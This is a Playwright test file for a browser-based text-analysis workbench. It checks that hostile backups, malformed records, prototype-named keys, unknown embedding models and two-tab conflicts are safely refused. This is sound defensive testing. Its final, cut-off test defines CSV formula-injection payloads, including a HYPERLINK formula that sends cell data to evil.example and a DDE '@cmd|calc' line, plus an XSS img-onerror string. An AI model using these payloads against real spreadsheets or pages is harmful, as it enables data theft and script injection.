/**
 * Hostile files, records and tabs (issue 11), table-driven like test/unit/badInput.test.ts: each
 * row is one case with its expected outcome, a result or a named error, the workspace unchanged
 * where it must be, no request off the page's origin (recorded for the whole context), and never
 * a blank page (the panel, or its error view, stays on screen; no uncaught page error).
 *
 * Tables: backups refused at restore; the same records written straight into IndexedDB
 * (bypassing restore) and read by Insights; user-named keys (template variables, a category
 * named __proto__); files that would make the app reach the network (a classifier naming an
 * unknown embedding model, incomplete model folders, local/* models); two tabs of one context;
 * and the cases that already held (CSV formula injection, HTML report escaping); and, in Chinese,
 * each kind of refusal with its reason in the headline.
 */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { expect, test, type BrowserContext, type Locator, type Page } from '@playwright/test';
import { serializeClassifier } from '../../src/customize/serialize';
import { TEMPLATE_FILE_FORMAT } from '../../src/content/templates';
import { trainSoftmaxSync } from '../../src/customize/softmax';
import { openApp } from './support/app';
import { recordNetwork, type NetworkLog } from './support/network';

const TINY = resolve(import.meta.dirname, '../../public/models/tiny');
const T0 = 1_700_000_000_000;

// ---------------------------------------------------------------------------------------------
// Helpers

interface Session {
  page: Page;
  network: NetworkLog;
  errors: string[];
}

/** A page of `context` on `route`, its workspace ready, recording the context's requests and page errors. */
async function open(context: BrowserContext, route: string, network = recordNetwork(context)): Promise<Session> {
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  page.on('dialog', (dialog) => void dialog.accept());
  await openApp(page, { route });
  await page.waitForFunction(() => window.llmaosWorkspace !== undefined);
  return { page, network, errors };
}

/** Nothing left the origin, nothing threw uncaught, and the page is not blank. */
async function expectSafe(session: Session, baseURL: string): Promise<void> {
  expect(session.network.offOrigin(baseURL), session.network.toString()).toEqual([]);
  expect(session.errors).toEqual([]);
  await expect(session.page.locator('main .panel, main [data-testid="panel-error"]').first()).toBeVisible();
}

/** The whole workspace, typed arrays included, as one comparable string. */
async function snapshot(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const all = await window.llmaosWorkspace!.readAll();
    return JSON.stringify(all, (_key, value: unknown) => (ArrayBuffer.isView(value) ? Array.from(value as Uint8Array) : value));
  });
}

function dataset(id: string, rows: number, patch: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id,
    name: `${id}.csv`,
    createdAt: T0,
    updatedAt: T0,
    source: { fileName: `${id}.csv`, format: 'csv' },
    columns: ['text'],
    mapping: { text: 'text', date: null, rating: null, segment: null, id: null },
    rowCount: rows,
    report: { total: rows, empty: [], duplicates: [], unparsedDates: 0, unparsedRatings: 0, warnings: [], parseWarnings: [] },
    ...patch,
  };
}

function items(count: number, prefix = 'row'): Record<string, unknown>[] {
  return Array.from({ length: count }, (_, i) => ({
    row: i + 1,
    id: `row-${i + 1}`,
    text: `${prefix} ${i + 1} works great`,
    date: null,
    rating: null,
    segment: null,
    duplicateOf: null,
  }));
}

function run(id: string, datasetId: string, total: number, patch: Record<string, unknown> = {}): Record<string, unknown> {
  return { id, datasetId, kind: 'sentiment', status: 'paused', total, done: 1, startedAt: T0, updatedAt: T0, ...patch };
}

/** The stores of a small valid workspace: dataset "bad" (whose records the cases spoil) and "good". */
function stores(spoil: (s: Record<string, Record<string, unknown>[]>) => void = () => undefined): Record<string, Record<string, unknown>[]> {
  const s: Record<string, Record<string, unknown>[]> = {
    datasets: [dataset('bad', 3), dataset('good', 2)],
    datasetRows: [
      { datasetId: 'bad', items: items(3, 'bad') },
      { datasetId: 'good', items: items(2, 'good') },
    ],
    runs: [run('sentiment-bad', 'bad', 3)],
    runResults: [{ runId: 'sentiment-bad', chunk: 0, startIndex: 0, results: [{ label: 'positive', score: 0.9, signed: 0.9 }] }],
  };
  spoil(s);
  return s;
}

function backupText(storesValue: unknown, header: Record<string, unknown> = {}): string {
  return JSON.stringify({
    format: 'llmaos-workspace-backup',
    version: 1,
    schemaVersion: 1,
    exportedAt: new Date(T0).toISOString(),
    stores: storesValue,
    ...header,
  });
}

async function restore(page: Page, name: string, text: string, mode: 'replace' | 'merge' = 'replace'): Promise<void> {
  await page.getByTestId(`backup-mode-${mode}`).check();
  await page.getByTestId('backup-file').setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
  await page.getByTestId('backup-restore').click();
}

/** Writes records with IndexedDB itself, as another tool or devtools would: no check runs. */
async function writeRaw(page: Page, data: Record<string, unknown[]>): Promise<void> {
  await page.evaluate(
    (records) =>
      new Promise<void>((resolveWrite, reject) => {
        const request = indexedDB.open('llmaos-workspace');
        request.onerror = () => reject(request.error);
        request.onsuccess = () => {
          const db = request.result;
          const tx = db.transaction(Object.keys(records), 'readwrite');
          for (const [store, list] of Object.entries(records)) for (const record of list) tx.objectStore(store).put(record);
          tx.oncomplete = () => {
            db.close();
            resolveWrite();
          };
          tx.onerror = () => reject(tx.error);
        };
      }),
    data,
  );
}

// ---------------------------------------------------------------------------------------------
// 1. Records that must be refused at restore, and guarded on read

interface RecordCase {
  name: string;
  spoil(s: Record<string, Record<string, unknown>[]>): void;
  /** The restore error names this. */
  refused: RegExp;
  /** Written directly, Insights shows it as: a quarantined dataset, a dataset that will not open, or set-aside results. */
  onRead: 'quarantined' | 'broken' | 'results';
}

const RECORD_CASES: RecordCase[] = [
  {
    name: 'createdAt "yesterday"',
    spoil: (s) => void (s.datasets![0]!.createdAt = 'yesterday'),
    refused: /Record 1 of "datasets".*"createdAt" must be a date.*\(found "yesterday"\)/,
    onRead: 'quarantined',
  },
  {
    name: 'a dataset without source',
    spoil: (s) => void delete s.datasets![0]!.source,
    refused: /Record 1 of "datasets".*"source" must be an object \(found missing\)/,
    onRead: 'quarantined',
  },
  {
    name: 'items [1, null, "x"]',
    spoil: (s) => void (s.datasetRows![0]!.items = [1, null, 'x']),
    refused: /Record 1 of "datasetRows".*row 1 of "items" is malformed/,
    onRead: 'broken',
  },
  {
    name: 'a malformed report',
    spoil: (s) => void (s.datasets![0]!.report = { total: 3, duplicates: 'none' }),
    refused: /Record 1 of "datasets".*"report\.empty" must be a list of whole numbers/,
    onRead: 'quarantined',
  },
  {
    name: 'a run total of 300,000,000',
    spoil: (s) => void (s.runs![0]!.total = 300_000_000),
    refused: /Record 1 of "runs".*total of 300,000,000 rows is more than its dataset's 3/,
    onRead: 'results',
  },
  {
    name: 'a chunk index 2^53−2',
    spoil: (s) => void (s.runResults![0]!.chunk = 2 ** 53 - 2),
    refused: /Record 1 of "runResults".*chunk number 9,007,199,254,740,990 is beyond the run's 3 rows/,
    onRead: 'results',
  },
];

/** Backups that already were refused; they must stay refused, with the workspace byte-identical. */
const FILE_CASES: Array<{ name: string; text: string; refused: RegExp }> = [
  { name: 'a "__proto__" store name', text: backupText(JSON.parse('{"__proto__": [], "drafts": []}')), refused: /unknown store "__proto__"/ },
  { name: 'a future backup version', text: backupText({}, { version: 99 }), refused: /newer version of the workbench/ },
  { name: 'a future schema', text: backupText({}, { schemaVersion: 99 }), refused: /newer version of the workbench/ },
  { name: 'a truncated file', text: backupText(stores()).slice(0, 200), refused: /not valid JSON.*truncated/ },
];

test('hostile backups are refused at restore with the reason, and the workspace stays byte-identical', async ({ context, baseURL }) => {
  const session = await open(context, 'settings');
  const { page } = session;
  await writeRaw(page, { drafts: [{ id: 'keep', title: 'Keep me', text: 'unchanged', createdAt: T0, updatedAt: T0 }] });
  const before = await snapshot(page);
  const cases = [...RECORD_CASES.map((c) => ({ name: c.name, text: backupText(stores(c.spoil)), refused: c.refused })), ...FILE_CASES];
  for (const [index, row] of cases.entries()) {
    await test.step(row.name, async () => {
      await restore(page, `hostile-${index}.json`, row.text, index % 2 === 0 ? 'replace' : 'merge');
      const error = page.getByTestId('backup-restore-error');
      await expect(error).toBeVisible();
      // The reason, whether in the headline or under Technical details.
      expect(await error.textContent()).toMatch(row.refused);
      await expect(page.getByTestId('backup-restore-done')).toBeHidden();
      expect(await snapshot(page)).toBe(before);
    });
  }
  // The valid version of the same file restores, so the refusals were about the spoiled records.
  await restore(page, 'valid.json', backupText(stores()), 'merge');
  await expect(page.getByTestId('backup-restore-done')).toBeVisible();
  await expectSafe(session, baseURL!);
});

test('written straight into IndexedDB, each bad record is quarantined or refused on read: never a blank app, the other dataset stays usable', async ({
  context,
  baseURL,
}) => {
  const session = await open(context, 'insights');
  const { page } = session;
  for (const row of RECORD_CASES) {
    await test.step(row.name, async () => {
      await page.evaluate(() => window.llmaosWorkspace!.writeAll({}, { replace: true, what: 'the reset between cases' }));
      await writeRaw(page, stores(row.spoil));
      await page.reload();
      await expect(page.getByTestId('insights-panel')).toBeVisible();

      if (row.onRead === 'quarantined') {
        const quarantined = page.locator('[data-testid="insights-quarantined-dataset"][data-dataset-id="bad"]');
        await expect(quarantined).toBeVisible();
        await expect(quarantined).toContainText(row.refused.source.includes('createdAt') ? /createdAt/ : /source|report/);
        await expect(quarantined.getByTestId('insights-quarantined-export')).toBeVisible();
        await expect(quarantined.getByTestId('insights-quarantined-delete')).toBeVisible();
      } else {
        await page.locator('[data-testid="insights-dataset"][data-dataset-id="bad"] [data-testid="insights-dataset-open"]').click();
        if (row.onRead === 'broken') {
          await expect(page.getByTestId('insights-broken')).toBeVisible();
          await expect(page.getByTestId('insights-broken-reason')).toContainText(/row 1 of "items" is malformed/);
          const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('insights-broken-export').click()]);
          expect(download.suggestedFilename()).toMatch(/bad-csv\.dataset-backup\.json$/);
          await page.getByTestId('insights-broken-close').click();
        } else {
          await expect(page.getByTestId('insights-active')).toHaveAttribute('data-dataset-id', 'bad');
          await expect(page.getByTestId('insights-result-problems')).toContainText(/set aside/);
          await page.getByTestId('insights-discard-damaged').click();
          await expect(page.getByTestId('insights-result-problems')).toBeHidden();
          expect(await page.evaluate(() => window.llmaosWorkspace!.count('runs'))).toBe(0);
        }
      }
      // The other dataset opens and shows its rows.
      await page.locator('[data-testid="insights-dataset"][data-dataset-id="good"] [data-testid="insights-dataset-open"]').click();
      await expect(page.getByTestId('insights-active')).toHaveAttribute('data-dataset-id', 'good');
      await expect(page.getByTestId('insights-active-name')).toHaveText('good.csv');
    });
  }
  await expectSafe(session, baseURL!);
});

/**
 * Malformed records of every other store, as devtools or another tool could write them: each
 * panel must show itself, having set the record aside (issue 11.2: "guarded on read"); the error
 * boundary around every panel is the net below that, and a blank app is never acceptable.
 */
const MALFORMED_OTHER_STORES: Record<string, unknown[]> = {
  templates: [{ id: 'bad-template', kind: 'custom', name: 42, body: null, variables: 'x', createdAt: 'yesterday', updatedAt: 'never' }],
  drafts: [{ id: 'bad-draft', title: null, text: 5, createdAt: 'yesterday', updatedAt: null }],
  knowledgeBases: [{ id: 'default', name: null, documents: 'none', embeddingModel: 7, createdAt: 'x', updatedAt: 'x' }],
  passages: [{ id: 'bad-passage', knowledgeBaseId: 'default', docId: 3, text: null, vector: 'x' }],
  classifiers: [{ id: 'bad-classifier', name: {}, model: 'not a model', createdAt: 'yesterday', updatedAt: -1 }],
  analyses: [{ id: 'bad-analysis', datasetId: 'good', kind: 7, result: 'x' }],
};

test('malformed records of every other store, written straight into IndexedDB: every panel sets the bad record aside and shows itself, never a blank app or its error view', async ({
  context,
  baseURL,
}) => {
  const session = await open(context, 'insights');
  const { page } = session;
  await writeRaw(page, { ...stores(), ...MALFORMED_OTHER_STORES });
  await page.reload();
  const routes = await page
    .locator('[data-testid^="nav-"]')
    .evaluateAll((links) => links.map((link) => (link.getAttribute('data-testid') ?? '').replace(/^nav-/, '')));
  expect(routes.length).toBeGreaterThan(5);
  const shown: string[] = [];
  for (const route of routes) {
    await test.step(route, async () => {
      await page.getByTestId(`nav-${route}`).click();
      await expect(page.getByTestId(`nav-${route}`)).toHaveAttribute('aria-current', 'page');
      const panel = page.locator(`main [data-testid="${route}-panel"], main .panel`).first();
      const errorView = page.locator('main [data-testid="panel-error"]');
      await expect(panel.or(errorView).first()).toBeVisible();
      if (await errorView.isVisible()) {
        // The way out: the reason and a link to Settings (backup, delete the workspace).
        await expect(errorView.getByTestId('panel-error-reason')).not.toBeEmpty();
        await expect(errorView.getByTestId('panel-error-settings')).toBeVisible();
        shown.push(`${route}: error view`);
      } else shown.push(`${route}: panel`);
    });
  }
  test.info().annotations.push({ type: 'measured', description: shown.join('; ') });
  console.log(`[measured] malformed records: ${shown.join('; ')}`);
  // Guarded on read, not only caught: each panel sets the bad record aside and works.
  expect(shown.filter((entry) => entry.endsWith('error view'))).toEqual([]);
  // Write says its damaged draft was set aside (the history would otherwise break the panel).
  await page.getByTestId('nav-write').click();
  await expect(page.getByTestId('write-library-error')).toContainText(/1 saved draft is damaged/);
  await expectSafe(session, baseURL!);
});

test('a panel that throws while rendering shows the error view with its reason and the ways out; the header, the other tabs and Retry keep working', async ({
  page,
}) => {
  await openApp(page, { route: 'classify' });
  await expect(page.getByTestId('classify-panel')).toBeVisible();
  // The e2e build's hook (src/app/App.tsx RenderFault): the Write panel throws on render.
  await page.evaluate(() => sessionStorage.setItem('llmaos-render-fault', 'write'));
  await page.getByTestId('nav-write').click();
  const errorView = page.locator('main [data-testid="panel-error"]');
  await expect(errorView).toBeVisible();
  await expect(errorView.getByTestId('panel-error-reason')).toContainText('Render fault injected into the write panel');
  await expect(errorView.getByTestId('panel-error-settings')).toHaveAttribute('href', '#/settings');
  await expect(page.getByRole('navigation')).toBeVisible();
  // Another tab renders: the failure stayed in its panel.
  await page.getByTestId('nav-classify').click();
  await expect(page.getByTestId('classify-panel')).toBeVisible();
  await expect(errorView).toHaveCount(0);
  // Back to the broken tab, fault gone: Retry renders the panel itself.
  await page.getByTestId('nav-write').click();
  await expect(errorView).toBeVisible();
  await page.evaluate(() => sessionStorage.removeItem('llmaos-render-fault'));
  await errorView.getByTestId('panel-error-retry').click();
  await expect(errorView).toHaveCount(0);
  await expect(page.locator('main [data-testid="write-panel"], main .panel').first()).toBeVisible();
});

// ---------------------------------------------------------------------------------------------
// 2. User-named keys

test('Write: {{constructor}}, {{__proto__}} and {{toString}} are ordinary variables, required or not', async ({ context, baseURL }) => {
  const session = await open(context, 'write');
  const { page } = session;
  await page.getByTestId('write-template-new').click();
  await page.getByTestId('write-template-name').fill('Object keys');
  await page.getByTestId('write-template-body').fill('A: {{constructor}}\nB: {{__proto__}}\nC: {{toString}}\nText:');
  await expect(page.getByTestId('write-editor-variable')).toHaveCount(3);
  await page.locator('[data-testid="write-editor-variable"][data-name="__proto__"] input[type="checkbox"]').check();
  await page.getByTestId('write-template-save').click();
  await expect(page.getByTestId('write-editor')).toBeHidden();
  await expect(page.getByTestId('write-library-error')).toBeHidden();

  for (const name of ['constructor', '__proto__', 'toString']) await expect(page.getByTestId(`write-var-${name}`)).toHaveValue('');
  // Required and empty: named, not "t.join is not a function".
  await page.getByTestId('write-generate').click();
  await expect(page.getByTestId('write-missing')).toContainText(/Please fill in: .*proto/i);

  await page.getByTestId('write-var-constructor').fill('first');
  await page.getByTestId('write-var-__proto__').fill('second');
  await page.getByTestId('write-var-toString').fill('third');
  // The prompt is built before the model is asked (what failed with "t.join is not a function").
  await page.getByTestId('write-generate').click();
  await expect(page.getByTestId('write-status')).toHaveAttribute('data-status', 'running');
  await expect(page.getByTestId('write-prompt')).toContainText('A: first');
  await expect(page.getByTestId('write-prompt')).toContainText('B: second');
  await expect(page.getByTestId('write-prompt')).toContainText('C: third');
  await page.getByTestId('write-stop').click();
  await expect(page.getByTestId('write-status')).toHaveAttribute('data-status', 'stopped');
  // Saved: the template comes back after a reload with its variables.
  await page.reload();
  await expect(page.getByTestId('write-template')).toContainText('Object keys');
  await expectSafe(session, baseURL!);
});

/** A classifier file as Customize exports it, on `dims`-dimensional embeddings of `embeddingModel`. */
function classifierFile(dir: string, name: string, classes: string[], dims: number, embeddingModel: string): string {
  const X: number[][] = [];
  const y: number[] = [];
  classes.forEach((_, c) => {
    for (let i = 0; i < 4; i++) {
      X.push(Array.from({ length: dims }, (_, d) => (d % classes.length === c ? 1 : 0) + i * 0.01));
      y.push(c);
    }
  });
  const model = trainSoftmaxSync(X, y, { classes, epochs: 3 });
  model.metadata.extra = { name, embeddingModel };
  const file = join(dir, `${name}.classifier.json`);
  writeFileSync(file, serializeClassifier(model));
  return file;
}

test('a classifier with a category named __proto__ imports, is listed and classifies; one naming an unknown embedding model waits for the user', async ({
  context,
  baseURL,
}) => {
  const session = await open(context, 'customize');
  const { page } = session;
  const dims = await page.evaluate(async () => (await window.llmaos.embed(['probe']))[0]!.length);
  const dir = mkdtempSync(join(tmpdir(), 'llmaos-hostile-'));

  await page.getByTestId('custom-import-classifier').setInputFiles(classifierFile(dir, 'Proto', ['__proto__', 'constructor'], dims, 'tiny/minilm-embeddings'));
  const saved = page.locator('[data-testid="custom-saved"][data-name="Proto"]');
  await expect(saved).toBeVisible();
  await expect(saved).toContainText('__proto__ · constructor');
  const label = await page.evaluate(async () => (await window.llmaos.classify(['anything'], { model: 'custom:Proto' }))[0]!.label);
  expect(['__proto__', 'constructor']).toContain(label);

  // The file names a model outside the library: nothing is saved or fetched before the user decides.
  const tracker = classifierFile(dir, 'Tracker', ['bug', 'praise'], dims, 'attacker-org/tracking-embedder');
  const count = await page.evaluate(() => window.llmaosWorkspace!.count('classifiers'));
  await page.getByTestId('custom-import-classifier').setInputFiles(tracker);
  await expect(page.getByTestId('custom-import-confirm')).toHaveAttribute('data-model', 'attacker-org/tracking-embedder');
  expect(await page.evaluate(() => window.llmaosWorkspace!.count('classifiers'))).toBe(count);
  await page.getByTestId('custom-import-confirm-cancel').click();
  await expect(page.getByTestId('custom-import-status')).toHaveAttribute('data-kind', 'cancelled');
  expect(await page.evaluate(() => window.llmaosWorkspace!.count('classifiers'))).toBe(count);

  // Picking a library model instead imports it, and it runs locally.
  await page.getByTestId('custom-import-classifier').setInputFiles(tracker);
  await page.getByTestId('custom-import-confirm-model').selectOption('tiny/minilm-embeddings');
  await page.getByTestId('custom-import-confirm-library').click();
  await expect(page.locator('[data-testid="custom-saved"][data-name="Tracker"]')).toBeVisible();
  expect(await page.evaluate(async () => (await window.llmaos.classify(['it broke'], { model: 'custom:Tracker' })).length)).toBe(1);

  // The same classifier arriving in a backup (no confirmation there) is refused when used.
  const record = await page.evaluate(async () => (await window.llmaosWorkspace!.getAll('classifiers')).find((c) => c.name === 'Tracker')!);
  await writeRaw(page, { classifiers: [{ ...record, id: 'from-backup', name: 'Backup tracker', embeddingModel: 'attacker-org/tracking-embedder' }] });
  const refused = await page.evaluate(() =>
    window.llmaos.classify(['x'], { model: 'custom:Backup tracker' }).then(
      () => 'ran',
      (error: { code: string; message: string }) => `${error.code}: ${error.message}`,
    ),
  );
  expect(refused).toMatch(/model-not-found: .*attacker-org\/tracking-embedder.*not in your model library/);
  rmSync(dir, { recursive: true, force: true });
  await expectSafe(session, baseURL!);
});

// ---------------------------------------------------------------------------------------------
// 3. Model folders and local/* models: nothing reaches the Hub

function folder(name: string, edit: (dir: string) => void = () => undefined): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'llmaos-folder-')), name);
  mkdirSync(join(dir, 'onnx'), { recursive: true });
  for (const file of ['config.json', 'tokenizer.json', 'tokenizer_config.json', 'onnx/model_quantized.onnx']) {
    cpSync(join(TINY, 'distilbert-sentiment', file), join(dir, file));
  }
  edit(dir);
  return dir;
}

const FOLDER_CASES: Array<{ name: string; dir: () => string; error: RegExp }> = [
  { name: 'no tokenizer.json', dir: () => folder('no-tokenizer', (d) => rmSync(join(d, 'tokenizer.json'))), error: /lacks tokenizer\.json/ },
  {
    name: 'weights at the wrong path',
    dir: () =>
      folder('wrong-path', (d) => {
        cpSync(join(d, 'onnx/model_quantized.onnx'), join(d, 'model_quantized.onnx'));
        rmSync(join(d, 'onnx'), { recursive: true });
      }),
    error: /lacks onnx\/model_quantized\.onnx \(or onnx\/model\.onnx\)/,
  },
  {
    name: 'a truncated ONNX file',
    dir: () => folder('truncated', (d) => truncateSync(join(d, 'onnx/model_quantized.onnx'), 4096)),
    error: /onnx\/model_quantized\.onnx is not a usable ONNX model file: it is truncated/,
  },
  {
    name: 'an HTML page saved as ONNX',
    dir: () => folder('html', (d) => writeFileSync(join(d, 'onnx/model_quantized.onnx'), '<!doctype html><html><body>Sign in</body></html>')),
    error: /not a usable ONNX model file/,
  },
  {
    // config.json says the weights live beside the graph (model_quantized.onnx_data): that file must be there.
    name: 'declared external data that is missing',
    dir: () => folder('no-onnx-data', (d) => declareExternalData(d)),
    error: /onnx\/model_quantized\.onnx needs its external data file "onnx\/model_quantized\.onnx_data", which is not in the folder/,
  },
];

function declareExternalData(dir: string): void {
  const config = JSON.parse(readFileSync(join(dir, 'config.json'), 'utf8')) as Record<string, unknown>;
  config['transformers.js_config'] = { use_external_data_format: true };
  writeFileSync(join(dir, 'config.json'), JSON.stringify(config));
}

test('model folders missing a file, or with an ONNX file that does not parse, are refused naming it; local/* models never reach the Hub', async ({
  context,
  baseURL,
}) => {
  const session = await open(context, 'models');
  const { page } = session;
  const before = await page.evaluate(() => JSON.parse(localStorage.getItem('llmaos-settings') ?? '{}').state?.userModels?.length ?? 0);
  for (const row of FOLDER_CASES) {
    await test.step(row.name, async () => {
      await page.getByTestId('import-folder-input').setInputFiles(row.dir());
      await expect(page.getByTestId('import-status')).toHaveAttribute('data-phase', 'error');
      expect(await page.getByTestId('import-status').textContent()).toMatch(row.error);
    });
  }
  expect(await page.evaluate(() => JSON.parse(localStorage.getItem('llmaos-settings') ?? '{}').state?.userModels?.length ?? 0)).toBe(before);

  // A complete folder still imports and runs.
  await page.getByTestId('import-folder-input').setInputFiles(folder('complete'));
  await expect(page.getByTestId('import-status')).toHaveAttribute('data-phase', 'done', { timeout: 60_000 });
  expect((await page.evaluate(() => window.llmaos.classify(['I love it'], { model: 'local/complete' })))[0]!.label).toMatch(/POSITIVE|NEGATIVE/);

  // An imported model in the library whose files are not in this browser (another profile's
  // settings, cleared site data) fails locally, without asking the Hub.
  await page.evaluate(() => {
    const stored = JSON.parse(localStorage.getItem('llmaos-settings') ?? '{"state":{},"version":1}') as { state: { userModels?: unknown[] } };
    const ghost = { id: 'local/not-imported-here', task: 'sentiment', languages: [], origin: 'imported', dtype: { wasm: 'q8', webgpu: 'fp32' } };
    stored.state.userModels = [...(stored.state.userModels ?? []), ghost];
    localStorage.setItem('llmaos-settings', JSON.stringify(stored));
  });
  await page.reload();
  await page.waitForFunction(() => window.llmaosWorkspace !== undefined);
  const outcome = await page.evaluate(() =>
    window.llmaos.classify(['x'], { model: 'local/not-imported-here' }).then(
      () => 'ran',
      (error: { code: string; message: string; detail?: string }) => `${error.code}: ${error.message} ${error.detail ?? ''}`,
    ),
  );
  expect(outcome).toMatch(/local\/not-imported-here/);
  expect(outcome).toMatch(/never downloaded/);
  await expectSafe(session, baseURL!);
});

// ---------------------------------------------------------------------------------------------
// 4. Two tabs of one browser context

test('two tabs: a restore in one closes the other tab’s dataset and stops its run; nothing is written for the missing dataset', async ({
  context,
  baseURL,
}) => {
  const network = recordNetwork(context);
  const a = await open(context, 'settings', network);
  await writeRaw(a.page, { datasets: [dataset('gone', 1500)], datasetRows: [{ datasetId: 'gone', items: items(1500, 'gone') }] });
  const b = await open(context, 'insights', network);
  await b.page.locator('[data-testid="insights-dataset"][data-dataset-id="gone"] [data-testid="insights-dataset-open"]').click();
  await b.page.getByTestId('insights-run-sentiment').click();
  await expect(b.page.getByTestId('insights-status')).toHaveAttribute('data-status', 'running');

  await restore(a.page, 'other.json', backupText({ drafts: [{ id: 'd', title: 'Only this', text: 'x', createdAt: T0, updatedAt: T0 }] }));
  await expect(a.page.getByTestId('backup-restore-done')).toBeVisible();

  await expect(b.page.getByTestId('insights-tab-notice')).toHaveAttribute('data-kind', 'restored');
  await expect(b.page.getByTestId('insights-active')).toBeHidden();
  await expect(b.page.locator('[data-testid="insights-dataset"][data-dataset-id="gone"]')).toHaveCount(0);
  // Whatever chunk was in flight is refused by the workspace; the restored workspace stays as restored.
  const refusal = await b.page.evaluate(() =>
    window
      .llmaosWorkspace!.put('runs', {
        id: 'sentiment-gone',
        datasetId: 'gone',
        kind: 'sentiment',
        status: 'running',
        total: 1500,
        done: 0,
        startedAt: 1,
        updatedAt: 1,
      })
      .then(
        () => 'saved',
        (error: { message: string }) => error.message,
      ),
  );
  expect(refusal).toMatch(/its dataset no longer exists/);
  await b.page.evaluate(() => window.llmaos.embed(['one more round trip to the worker']));
  const left = await a.page.evaluate(async () => {
    const workspace = window.llmaosWorkspace!;
    return { runs: await workspace.count('runs'), chunks: await workspace.count('runResults'), drafts: await workspace.count('drafts') };
  });
  expect(left).toEqual({ runs: 0, chunks: 0, drafts: 1 });
  await expectSafe(a, baseURL!);
  await expectSafe(b, baseURL!);
});

test('two tabs: template edits are seen by the other tab, and a stale edit or a deleted template is refused, not silently saved', async ({
  context,
  baseURL,
}) => {
  const network = recordNetwork(context);
  const template = (id: string, name: string, body: string) => ({
    id,
    name,
    kind: 'custom',
    body,
    variables: [{ name: 'topic', label: 'Topic', kind: 'text', required: false }],
    createdAt: T0,
    updatedAt: T0,
  });
  const a = await open(context, 'write', network);
  await writeRaw(a.page, { templates: [template('user:shared', 'Shared', 'About {{topic}}:'), template('user:doomed', 'Doomed', 'Doomed {{topic}}:')] });
  await a.page.reload();
  const b = await open(context, 'write', network);
  for (const tab of [a, b]) await expect(tab.page.getByTestId('write-template')).toContainText('Doomed');

  // Both open "Shared" in the editor; A saves first.
  for (const tab of [a, b]) {
    await tab.page.getByTestId('write-template').selectOption('user:shared');
    await tab.page.getByTestId('write-template-edit').click();
  }
  await a.page.getByTestId('write-template-name').fill('Shared (edited in A)');
  await a.page.getByTestId('write-template-save').click();
  await expect(a.page.getByTestId('write-editor')).toBeHidden();
  // B sees A's change in its list…
  await expect(b.page.getByTestId('write-template')).toContainText('Shared (edited in A)');
  // …and its own stale save is refused instead of overwriting it.
  await b.page.getByTestId('write-template-name').fill('Shared (edited in B)');
  await b.page.getByTestId('write-template-save').click();
  await expect(b.page.getByTestId('write-library-error')).toContainText(/changed in another tab/);
  expect(await a.page.evaluate(async () => (await window.llmaosWorkspace!.get('templates', 'user:shared'))?.name)).toBe('Shared (edited in A)');

  // B edits "Doomed" while A deletes it: B's save does not bring it back.
  await b.page.getByTestId('write-template-cancel').click();
  await b.page.getByTestId('write-template').selectOption('user:doomed');
  await b.page.getByTestId('write-template-edit').click();
  await a.page.getByTestId('write-template').selectOption('user:doomed');
  await a.page.getByTestId('write-template-delete').click();
  await a.page.getByTestId('write-template-delete-confirm').click();
  await expect(b.page.getByTestId('write-template').locator('option[value="user:doomed"]')).toHaveCount(0);
  await b.page.getByTestId('write-template-save').click();
  await expect(b.page.getByTestId('write-library-error')).toContainText(/deleted in another tab/);
  expect(await a.page.evaluate(async () => (await window.llmaosWorkspace!.get('templates', 'user:doomed')) ?? null)).toBeNull();

  // A new template in B shows up in A without a reload.
  await b.page.getByTestId('write-template-new').click();
  await b.page.getByTestId('write-template-name').fill('New in B');
  await b.page.getByTestId('write-template-save').click();
  await expect(a.page.getByTestId('write-template')).toContainText('New in B');
  await expectSafe(a, baseURL!);
  await expectSafe(b, baseURL!);
});

// ---------------------------------------------------------------------------------------------
// 5. What already held, kept holding: exports neutralise formulas and escape HTML

test('two tabs: a knowledge-base document or a classifier added or removed in one tab shows up in the other without a reload', async ({ context, baseURL }) => {
  const network = recordNetwork(context);
  const a = await open(context, 'ask', network);
  const b = await open(context, 'ask', network);
  const documentIn = (tab: Session, name: string) => tab.page.locator(`[data-testid="kb-document"][data-name="${name}"]`);

  await a.page.locator('.kb-paste summary').click();
  await a.page.getByTestId('kb-paste-title').fill('Returns policy');
  await a.page.getByTestId('kb-paste').fill('Items can be returned within 30 days of delivery. Refunds reach the card in five working days.');
  await a.page.getByTestId('kb-paste-add').click();
  await expect(a.page.getByTestId('kb-job')).toHaveAttribute('data-status', 'done', { timeout: 120_000 });
  await expect(documentIn(b, 'Returns policy')).toBeVisible();
  await documentIn(b, 'Returns policy').getByTestId('kb-document-remove').click();
  await expect(documentIn(a, 'Returns policy')).toHaveCount(0);

  // A classifier saved in A is listed in B's Customize; deleted in B, it leaves A's list.
  for (const tab of [a, b]) await tab.page.getByTestId('nav-customize').click();
  const dims = await a.page.evaluate(async () => (await window.llmaos.embed(['probe']))[0]!.length);
  const dir = mkdtempSync(join(tmpdir(), 'llmaos-tabs-'));
  await a.page.getByTestId('custom-import-classifier').setInputFiles(classifierFile(dir, 'Shared triage', ['bug', 'praise'], dims, 'tiny/minilm-embeddings'));
  const savedIn = (tab: Session) => tab.page.locator('[data-testid="custom-saved"][data-name="Shared triage"]');
  await expect(savedIn(a)).toBeVisible();
  await expect(savedIn(b)).toBeVisible();
  await savedIn(b).getByTestId('custom-delete').click();
  await savedIn(b).getByTestId('custom-delete-confirm').click();
  await expect(savedIn(b)).toHaveCount(0);
  await expect(savedIn(a)).toHaveCount(0);
  rmSync(dir, { recursive: true, force: true });
  await expectSafe(a, baseURL!);
  await expectSafe(b, baseURL!);
});

test('a hostile dataset exports with formulas neutralised (CSV) and markup escaped (HTML report)', async ({ context, baseURL }) => {
  const session = await open(context, 'insights');
  const { page } = session;
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '<img src=x onerror=alert(1)> in a row', '+SUM(1,2)', '@cmd|calc'];
  const csvFile = `text\n${hostile.map((line) => `"${line.replace(/"/g, '""')}"`).join('\n')}\n`;
  await page
    .getByTestId('insights-import-input')
    .setInputFiles({ name: '<img src=x onerror=alert(1)>.csv', mimeType: 'text/csv', buffer: Buffer.from(csvFile) });
